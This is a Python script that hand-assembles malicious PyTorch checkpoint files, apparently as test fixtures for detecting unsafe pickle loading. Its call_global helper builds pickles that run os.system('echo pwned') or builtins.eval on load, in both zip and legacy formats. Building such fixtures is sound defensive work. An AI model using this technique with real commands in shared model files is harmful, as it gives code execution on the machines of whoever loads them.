#!/usr/bin/env python3
"""Writes the small hostile pytorch_model.bin files checked in beside this script.

Standard library only (no torch): the pickles are written opcode by opcode, so nothing here
ever executes them. Run from any folder: python3 make_hostile_files.py
"""
import os
import struct
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))


def unicode(text):
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def call_global(module, name, argument):
    """A pickle that calls module.name(argument) -- what a malicious checkpoint does."""
    return (b"\x80\x02" + b"c" + module.encode() + b"\n" + name.encode() + b"\n"
            + unicode(argument) + b"\x85" + b"R" + b".")


def write_zip(path, pickle):
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", pickle)
        archive.writestr("archive/version", "3\n")


def write_legacy(path, pickle):
    magic = b"\x80\x02\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little") + b"."
    protocol = b"\x80\x02M" + struct.pack("<H", 1001) + b"."
    sys_info = b"\x80\x02}(" + unicode("little_endian") + b"\x88u."
    keys = b"\x80\x02](e."
    with open(path, "wb") as out:
        out.write(magic + protocol + sys_info + pickle + keys)


write_zip(os.path.join(HERE, "os_system.bin"), call_global("os", "system", "echo pwned"))
write_legacy(os.path.join(HERE, "builtins_eval_legacy.bin"), call_global("builtins", "eval", "__import__('os')"))
